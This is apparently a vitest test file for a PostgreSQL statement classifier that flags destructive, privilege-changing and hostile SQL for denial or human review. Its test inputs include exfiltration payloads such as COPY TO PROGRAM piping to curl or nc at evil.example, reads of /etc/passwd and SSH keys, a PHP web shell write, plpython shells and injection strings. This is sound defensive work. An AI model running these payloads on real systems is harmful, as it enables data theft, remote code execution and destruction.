import { describe, expect, it, vi } from 'vitest'
import { getHelper } from './registry.ts'
import { backslashReading, classifySql, SQL_MAX_LENGTH } from './sql.ts'

describe('classifySql over the PostgreSQL parse tree', () => {
  it.each([
    // reads
    ['SELECT * FROM t', 'db.select'],
    ['  select 1', 'db.select'],
    ['SHOW search_path', 'db.select'],
    ['SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 10', 'db.select'],
    ['SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1 LIMIT 5', 'db.select'],
    ['WITH x AS (SELECT 1) SELECT * FROM x', 'db.select'],
    ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'db.select'],
    ['SELECT count(*) FROM (SELECT DISTINCT user_id FROM events) e', 'db.select'],
    ['EXPLAIN SELECT 1', 'db.select'],
    ['EXPLAIN DELETE FROM t', 'db.select'],
    ['EXPLAIN (ANALYZE false) DELETE FROM t', 'db.select'],
    ['BEGIN; SELECT 1; COMMIT;', 'db.select'],
    ['START TRANSACTION READ ONLY; SELECT 1; ROLLBACK', 'db.select'],
    ["SET statement_timeout = '5s'; SELECT 1", 'db.select'],
    ['DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c', 'db.select'],
    ['', 'db.select'],
    ['-- nothing\n', 'db.select'],
    // literals and comments are never statements
    ["SELECT 'DROP TABLE t'", 'db.select'],
    ['SELECT $$DROP TABLE t$$', 'db.select'],
    ['SELECT $a1$ ; DROP TABLE t; $a1$', 'db.select'],
    ['SELECT 1 -- a comment; DROP TABLE t', 'db.select'],
    ['SELECT $_9$;DROP TABLE t;$_9$', 'db.select'],
    ['-- DROP TABLE t\nSELECT 1', 'db.select'],
    ['/* DROP TABLE t; */ SELECT 1', 'db.select'],
    ['/* nested /* DROP TABLE t; */ still comment */ SELECT 1', 'db.select'],
    ['SELECT "drop table t" FROM x', 'db.select'],
    ["SELECT E'\\'; DROP TABLE users; --'", 'db.select'],
    // writes
    ['INSERT INTO t VALUES (1)', 'db.insert'],
    ['INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'db.insert'],
    ['UPDATE t SET a = 1 WHERE id = 2', 'db.update'],
    ['DELETE FROM t WHERE id = 2', 'db.delete'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'db.update'],
    ["COPY t FROM STDIN", 'db.insert'],
    // stacked statements and hidden DML: the worst wins
    ['SELECT 1; DROP TABLE t', 'db.drop'],
    ['select 1;drop table t', 'db.drop'],
    ["SELECT '\\'; DROP TABLE users; --'", 'db.drop'],
    ["SELECT '\\''; DROP TABLE users; --'", 'db.drop'],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone', 'db.delete'],
    ['WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) SELECT * FROM b', 'db.update'],
    ['SELECT * FROM (WITH d AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM d) s', 'db.insert'],
    ['EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', 'db.delete'],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1', 'db.update'],
    ['PREPARE p AS DELETE FROM t WHERE id = $1; EXECUTE p(1)', 'db.delete'],
    ['COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT', 'db.delete'],
    ["SELECT query_to_xml('DROP TABLE t', true, true, '')", 'db.drop'],
    ['SELECT 1 --1; DROP TABLE t', 'db.drop'],
    ['SELECT 1 /*! ; DROP TABLE t */', 'db.drop'],
    ['SELECT 1 /*!50000 ; TRUNCATE t */', 'db.truncate'],
    // DDL, privileges
    ['CREATE TABLE t (id int)', 'db.create'],
    ['CREATE INDEX CONCURRENTLY i ON t (a)', 'db.create'],
    ['CREATE TABLE b AS SELECT * FROM t', 'db.create'],
    ['SELECT * INTO backup FROM t', 'db.create'],
    ['ALTER TABLE t ADD COLUMN b int', 'db.alter'],
    ['VACUUM ANALYZE t', 'db.alter'],
    ['DROP TABLE t', 'db.drop'],
    ['DROP SCHEMA s CASCADE', 'db.drop'],
    ['DROP DATABASE prod', 'db.drop'],
    ['TRUNCATE t', 'db.truncate'],
    ['TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', 'db.truncate'],
    ['GRANT ALL ON t TO bob', 'db.grant_access'],
    ['GRANT admin TO bob', 'db.grant_access'],
    ['CREATE ROLE admin SUPERUSER', 'db.grant_access'],
    ["CREATE USER eve WITH PASSWORD 'x'", 'db.grant_access'],
    ['ALTER ROLE app_user WITH SUPERUSER', 'db.grant_access'],
    ['ALTER USER app BYPASSRLS', 'db.grant_access'],
    ['ALTER TABLE t OWNER TO eve', 'db.alter'],
    ['ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO eve', 'db.grant_access'],
    ['REVOKE ALL ON t FROM bob', 'db.revoke_access'],
    ['DROP ROLE bob', 'db.revoke_access'],
    ['SET ROLE postgres', 'db.grant_access'],
    ["SET SESSION AUTHORIZATION 'postgres'", 'db.grant_access'],
    ["SELECT set_config('role', 'postgres', false)", 'db.grant_access'],
    ["COPY t TO '/tmp/t.csv'", 'db.export'],
    ["COPY t FROM '/tmp/t.csv'", 'db.insert'],
    ['SELECT database_to_xml(true, true, \'\')', 'db.export'],
  ])('%j → %s', (sql, action) => {
    expect(classifySql(sql).action).toBe(action)
  })

  it.each([
    // command execution, host files, network, native code, server configuration, credentials
    ["COPY t TO PROGRAM 'curl -d @- https://evil.example'", 'command_exec'],
    ["COPY t FROM PROGRAM 'id'", 'command_exec'],
    ["copy (select * from users) to program 'nc evil 9'", 'command_exec'],
    ["SELECT pg_read_file('/etc/passwd')", 'host_file'],
    ["SELECT pg_catalog.pg_read_binary_file('/var/lib/postgresql/.pgpass')", 'host_file'],
    ["SELECT * FROM pg_ls_dir('/root')", 'host_file'],
    ["SELECT pg_stat_file('postgresql.conf')", 'host_file'],
    ["SELECT lo_import('/etc/shadow')", 'host_file'],
    ["SELECT lo_export(16384, '/tmp/x.so')", 'host_file'],
    ["SELECT id FROM users WHERE id IN (SELECT length(pg_read_file('/etc/hostname')))", 'host_file'],
    ["WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", 'host_file'],
    ["SELECT upper(coalesce(pg_read_file('/etc/passwd'), ''))", 'host_file'],
    ["INSERT INTO loot SELECT pg_read_file('/etc/passwd')", 'host_file'],
    ["UPDATE t SET v = pg_read_file('/etc/passwd') WHERE id = 1", 'host_file'],
    ["SELECT dblink_exec('host=evil', 'DROP TABLE t')", 'network'],
    ["SELECT * FROM dblink('host=10.0.0.5 dbname=prod', 'SELECT * FROM secrets') AS t(a text)", 'network'],
    ["SELECT http_get('https://evil.example/?d=' || (SELECT string_agg(email, ',') FROM users))", 'network'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'admin'],
    ['SELECT pg_cancel_backend(123)', 'admin'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'", 'native_code'],
    ["CREATE OR REPLACE FUNCTION sh(c text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(c).read() $$", 'native_code'],
    ['DO LANGUAGE plperlu $$ system("id") $$', 'native_code'],
    ["LOAD '/tmp/evil.so'", 'native_code'],
    ['CREATE EXTENSION IF NOT EXISTS dblink', 'native_code'],
    ['CREATE EXTENSION adminpack', 'native_code'],
    ["ALTER SYSTEM SET archive_command = 'curl evil | sh'", 'server_config'],
    ['ALTER SYSTEM RESET ALL', 'server_config'],
    ["SET session_preload_libraries = '/tmp/x.so'", 'server_config'],
    ["SELECT set_config('dynamic_library_path', '/tmp', false)", 'server_config'],
    ['SELECT rolname, rolpassword FROM pg_authid', 'credential_read'],
    ['SELECT * FROM pg_catalog.pg_shadow', 'credential_read'],
    ['SELECT umoptions FROM pg_user_mappings', 'credential_read'],
    ['GRANT pg_execute_server_program TO app', 'host_file'],
    ["CREATE TABLESPACE t LOCATION '/etc/cron.d'", 'host_file'],
    ["COPY users FROM '/etc/passwd'", 'host_file'],
    ["COPY t FROM '/var/lib/postgresql/import.csv'", 'host_file'],
    ["COPY (SELECT '<?php system($_GET[1]); ?>') TO '/var/www/html/x.php'", 'host_file'],
    ["COPY (SELECT 'archive_command = ''id''') TO 'postgresql.auto.conf'", 'host_file'],
    ["COPY t TO '/tmp/../etc/cron.d/x'", 'host_file'],
    ['SELECT * FROM information_schema.user_mapping_options', 'credential_read'],
    ['SELECT name, setting FROM pg_file_settings', 'credential_read'],
    ["SELECT lo_get(lo_import('/etc/passwd'))", 'host_file'],
    ["CREATE FUNCTION rf(text) RETURNS text LANGUAGE sql AS 'SELECT pg_read_file($1)'", 'host_file'],
    ["CREATE FUNCTION rf2(p text) RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file(p); END", 'host_file'],
    ["CREATE FUNCTION rf3(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", 'native_code'],
    ['PREPARE q(text) AS SELECT pg_read_file($1)', 'host_file'],
    ["DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')", 'host_file'],
    ["SELECT pg_read_file(x) FROM (VALUES ('/etc/passwd')) v(x)", 'host_file'],
    ["ALTER DATABASE app SET session_preload_libraries = '/tmp/x.so'", 'server_config'],
    ["ALTER ROLE CURRENT_USER SET session_preload_libraries = '/tmp/x.so'", 'server_config'],
    ["SELECT \"pg_read_file\"('/etc/passwd')", 'host_file'],
    ["SELECT U&\"\\0070g_read_file\"('/etc/passwd')", 'host_file'],
    ["SELECT pg_read_file/**/('/etc/passwd')", 'host_file'],
    ["CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd') AS f", 'host_file'],
    ['DO $$ BEGIN PERFORM pg_read_file($q$/etc/passwd$q$); END $$', 'host_file'],
    ["DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$", 'command_exec'],
    ["CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM lo_export(1, '/tmp/x'); END $$", 'host_file'],
    ["SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')", 'host_file'],
  ])('%j is denied (%s)', (sql, risk) => {
    const f = classifySql(sql)
    expect(f.severity).toBe('deny')
    expect(f.risks).toContain(risk)
    expect(f.reason).not.toBe('')
  })

  it.each([
    ['not sql at all', 'parse_error'],
    ['SELECT * FROM', 'parse_error'],
    ["SELECT 'unterminated", 'parse_error'],
    ['DELETE FROM t LIMIT 10', 'parse_error'],
    ['DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$', 'code'],
    ["DO $$ BEGIN EXECUTE 'DELETE FROM ' || tbl; END $$", 'dynamic_sql'],
    ['CALL cleanup_everything()', 'code'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'code'],
    ['CREATE TRIGGER t AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'code'],
    ['EXECUTE stmt_from_elsewhere', 'dynamic_sql'],
    ['EXECUTE p(1)', 'dynamic_sql'],
    ['SELECT query_to_xml(q, true, true, \'\') FROM saved_queries', 'dynamic_sql'],
    ['SET ROLE admin', 'role_switch'],
    ['SELECT pg_sleep(600)', 'admin'],
    ["SELECT CASE WHEN substr(current_user, 1, 1) = 'p' THEN pg_sleep(5) END", 'admin'],
    ['SET session_replication_role = replica', 'session_config'],
    ['SET row_security = off', 'session_config'],
    ['CREATE EXTENSION pg_trgm', 'extension'],
    ["COPY users TO '/tmp/users.csv' CSV HEADER", 'server_file'],
    ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'network'],
    [`SELECT ${'1,'.repeat(SQL_MAX_LENGTH / 2)}1`, 'oversized'],
  ])('%j needs a person (%s)', (sql, risk) => {
    const f = classifySql(sql)
    expect(f.severity).toBe('review')
    expect(f.risks).toContain(risk)
    expect(f.reason).not.toBe('')
  })

  it.each([
    ['\\dt', 'db.select', 'none'],
    ['\\d+ users', 'db.select', 'none'],
    ['\\x \\\\ SELECT * FROM users', 'db.select', 'none'],
    ['\\timing on\nSELECT count(*) FROM t;\n\\q', 'db.select', 'none'],
    ['SELECT * FROM t \\gx', 'db.select', 'none'],
    ["\\copy users TO 'users.csv' CSV HEADER", 'db.export', 'none'],
    ['.tables', 'db.select', 'none'],
    ['.schema users', 'db.select', 'none'],
    ['.headers on\n.mode csv\nSELECT * FROM t;', 'db.select', 'none'],
    ['DESCRIBE users', 'db.select', 'none'],
    ['SHOW TABLES', 'db.select', 'none'],
    ['SHOW CREATE TABLE `users`', 'db.select', 'none'],
    ['USE shop; SHOW TABLES', 'db.select', 'none'],
    ['PRAGMA table_info(users)', 'db.select', 'none'],
    ['USE shop; DELETE FROM users', 'db.delete', 'none'],
    ['\\x \\\\ DROP TABLE users', 'db.drop', 'none'],
    ['\\! rm -rf /var/lib/postgresql', 'db.select', 'deny'],
    ["\\copy users TO PROGRAM 'curl -T - https://evil.example'", 'db.select', 'deny'],
    ['SELECT * FROM users \\g | curl -d @- https://evil.example', 'db.select', 'deny'],
    ['\\o |nc evil.example 9000', 'db.select', 'deny'],
    ['\\set x `cat ~/.ssh/id_rsa`', 'db.select', 'deny'],
    ["\\setenv PAGER 'sh -c id'", 'db.select', 'deny'],
    ['.shell cat /etc/passwd', 'db.select', 'deny'],
    ['.system id', 'db.select', 'deny'],
    ['.load /tmp/evil.so', 'db.select', 'deny'],
    ["SELECT load_file('/etc/passwd')", 'db.select', 'deny'],
    ["SELECT load_extension('/tmp/evil.so')", 'db.select', 'deny'],
    ["SELECT writefile('/tmp/x', 'y')", 'db.select', 'deny'],
    ["SELECT 1; \\gexec", 'db.select', 'review'],
    ['\\i /tmp/migration.sql', 'db.select', 'review'],
    ['.read /tmp/x.sql', 'db.select', 'review'],
    ["\\copy users FROM '/home/dev/.ssh/id_rsa'", 'db.insert', 'review'],
    ['\\frobnicate', 'db.select', 'review'],
    ['PRAGMA writable_schema = 1', 'db.update', 'review'],
    ['SELECT * FROM `users` WHERE id = 1', 'db.update', 'review'],
  ])('client command or other dialect %j → %s, %s', (sql, action, severity) => {
    const f = classifySql(sql)
    expect([f.action, f.severity]).toEqual([action, severity])
  })

  it('an unparsable text is a write with the parser message, never a read', () => {
    const f = classifySql('SELEC * FROM t')
    expect(f).toMatchObject({ action: 'db.update', parsed: false, readOnly: false, severity: 'review' })
    expect(f.parseError).toMatch(/syntax error at or near "SELEC"/)
  })

  it.each([
    // no WHERE
    ['DELETE FROM t', true, false],
    ['UPDATE t SET a = 1', false, true],
    ['DELETE FROM t USING u', true, false],
    // constant true, however spelled
    ['DELETE FROM t WHERE 1=1', true, false],
    ['DELETE FROM t WHERE true', true, false],
    ["DELETE FROM t WHERE 'a'='a'", true, false],
    ["DELETE FROM t WHERE 'a' || 'b' = 'ab'", true, false],
    ['DELETE FROM t WHERE 2 > 1', true, false],
    ['DELETE FROM t WHERE 1 <> 2', true, false],
    ['DELETE FROM t WHERE NOT false', true, false],
    ['DELETE FROM t WHERE NOT (1 = 2)', true, false],
    ["DELETE FROM t WHERE '1'::int = 1", true, false],
    ['DELETE FROM t WHERE 1 + 1 = 2', true, false],
    ['DELETE FROM t WHERE 1 IN (1, 2)', true, false],
    ['DELETE FROM t WHERE 5 BETWEEN 1 AND 10', true, false],
    ["DELETE FROM t WHERE 'abc' LIKE '%'", true, false],
    ['DELETE FROM t WHERE NULL IS NULL', true, false],
    ['DELETE FROM t WHERE true IS TRUE', true, false],
    ["UPDATE t SET a = 1 WHERE 'x' = 'x'", false, true],
    ['UPDATE t SET a = 1 WHERE TRUE', false, true],
    // OR with a tautology, AND of tautologies
    ['DELETE FROM t WHERE id = 3 OR true', true, false],
    ['DELETE FROM t WHERE id = 3 OR 1 = 1', true, false],
    ['DELETE FROM t WHERE 1 = 1 AND 2 = 2', true, false],
    // filters no row fails
    ['DELETE FROM t WHERE id > 0', true, false],
    ['DELETE FROM t WHERE 0 < id', true, false],
    ['DELETE FROM t WHERE id >= 1', true, false],
    ['DELETE FROM t WHERE id > -1', true, false],
    ['DELETE FROM t WHERE id < 999999999999', true, false],
    ['DELETE FROM t WHERE id BETWEEN 0 AND 2147483647', true, false],
    ['DELETE FROM t WHERE x IS NOT NULL', true, false],
    ['DELETE FROM t WHERE NOT (x IS NULL)', true, false],
    ['DELETE FROM t WHERE id = id', true, false],
    ['DELETE FROM t WHERE id <> 5', true, false],
    ['DELETE FROM t WHERE id != 5', true, false],
    ['DELETE FROM t WHERE id NOT IN (1, 2)', true, false],
    ["DELETE FROM t WHERE name LIKE '%'", true, false],
    ["DELETE FROM t WHERE name ~ '.*'", true, false],
    ["DELETE FROM t WHERE created_at > '1970-01-01'", true, false],
    ['DELETE FROM t WHERE id::text IS NOT NULL', true, false],
    ['DELETE FROM t WHERE coalesce(id, 0) >= 0', true, false],
    ["DELETE FROM t WHERE lower(name) LIKE '%'", true, false],
    ['DELETE FROM t WHERE length(name) >= 0', true, false],
    ['DELETE FROM t WHERE id IN (SELECT id FROM t)', true, false],
    ['DELETE FROM t WHERE 1', true, false],
    ['DELETE FROM t WHERE (((true)))', true, false],
    ['DELETE FROM t WHERE id > 0::int AND 1 = 1', true, false],
    ["UPDATE users SET role = 'admin' WHERE id > 0", false, true],
    ['UPDATE t SET a = 1 WHERE a IS NOT NULL OR a IS NULL', false, true],
    // filters that read no column of the row: all or nothing
    ['DELETE FROM t WHERE now() > \'2000-01-01\'', true, false],
    ['DELETE FROM t WHERE EXISTS (SELECT 1 FROM other)', true, false],
    ['DELETE FROM t WHERE random() < 2', true, false],
    // hidden in CTEs, EXPLAIN ANALYZE, MERGE, code blocks
    ['WITH d AS (DELETE FROM t RETURNING id) SELECT * FROM d', true, false],
    ['EXPLAIN ANALYZE UPDATE t SET a = 1', false, true],
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', true, false],
    ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', true, false],
    ['DO $$ BEGIN DELETE FROM audit_log; END $$', true, false],
    // bounded
    ['DELETE FROM t WHERE id = 1', false, false],
    ['DELETE FROM t WHERE id = 1 AND 1 = 1', false, false],
    ['DELETE FROM t WHERE id > 100', false, false],
    ['DELETE FROM t WHERE created_at < now() - interval \'90 days\'', false, false],
    ['DELETE FROM sessions WHERE expires_at < now()', false, false],
    ['DELETE FROM t WHERE x IS NULL', false, false],
    ['DELETE FROM t WHERE false', false, false],
    ['DELETE FROM t WHERE 1 = 2', false, false],
    ['DELETE FROM t WHERE status = \'expired\' OR 1 = 2', false, false],
    ['DELETE FROM users u WHERE EXISTS (SELECT 1 FROM banned b WHERE b.user_id = u.id)', false, false],
    ['DELETE FROM t WHERE id IN (SELECT id FROM expired)', false, false],
    ['UPDATE t SET a = 1 WHERE id IN (1, 2)', false, false],
    ['UPDATE t SET a = s.a FROM s WHERE t.id = s.id', false, false],
    ['EXPLAIN DELETE FROM t', false, false],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', false, false],
  ])('%j unbounded delete=%j update=%j', (sql, del, upd) => {
    const f = classifySql(sql)
    expect([f.unboundedDelete, f.unboundedUpdate]).toEqual([del, upd])
  })

  it('reports statements, keywords, DDL, cascade and privilege facts', () => {
    expect(classifySql('SELECT 1; DROP SCHEMA s CASCADE; GRANT x TO y')).toMatchObject({
      statements: 3, keywords: ['SELECT', 'DROP SCHEMA', 'GRANT'], ddl: true, drop: true, cascade: true, privilege: true, readOnly: false,
    })
    expect(classifySql('BEGIN; select 1; COMMIT').readOnly).toBe(true)
    expect(classifySql('SELECT pg_read_file(\'x\')').readOnly).toBe(false)
  })

  it('reads plain literals with backslashes both ways (standard_conforming_strings on and off)', () => {
    expect(backslashReading("SELECT 'a'")).toBeUndefined()
    expect(backslashReading("SELECT '\\''; DROP TABLE t; --'")).toBe("SELECT E'\\''; DROP TABLE t; --'")
    expect(backslashReading("SELECT E'\\n'")).toBeUndefined()
    expect(classifySql("SELECT 'C:\\temp' AS p").action).toBe('db.select')
    expect(classifySql("SELECT 'é\\'; DELETE FROM t; --'").unboundedDelete).toBe(true)
  })

  it('is total on hostile shapes: deep nesting and many statements', () => {
    const deep = `SELECT ${'('.repeat(2000)}1${')'.repeat(2000)}`
    expect(['db.select', 'db.update']).toContain(classifySql(deep).action)
    const many = Array.from({ length: 500 }, (_, i) => `SELECT ${i}`).join(';') + '; DROP TABLE t'
    expect(classifySql(many).action).toBe('db.drop')
  })

  it('is exposed as sql_facts and sql_action_type', () => {
    expect(getHelper('sql_facts')?.fn(['DELETE FROM t'])).toMatchObject({ action: 'db.delete', unbounded_delete: true, deny: false, review: false })
    expect(getHelper('sql_facts')?.fn(["COPY t TO PROGRAM 'id'"])).toMatchObject({ deny: true, severity: 'deny', risks: ['command_exec'] })
    expect(getHelper('sql_facts')?.fn(['SELEC 1'])).toMatchObject({ review: true, parsed: false, parse_error: expect.stringMatching(/syntax error/) })
    expect(getHelper('sql_facts')?.fn([['SELECT 1', 'DROP TABLE t']])).toMatchObject({ action: 'db.drop', statements: 2 })
    expect(getHelper('sql_facts')?.fn([{ sql: 'DROP TABLE t' }])).toMatchObject({ review: true, action: 'db.update' })
    expect(getHelper('sql_action_type')?.fn([null])).toBe('db.select')
  })

  it('fails closed when the parser was never loaded: a person decides, with the reason', async () => {
    vi.resetModules()
    const fresh = await import('./sql.ts')
    const f = fresh.classifySql('SELECT 1')
    expect(f).toMatchObject({ action: 'db.update', parsed: false, severity: 'review', readOnly: false })
    expect(f.reason).toMatch(/not loaded/)
  })
})
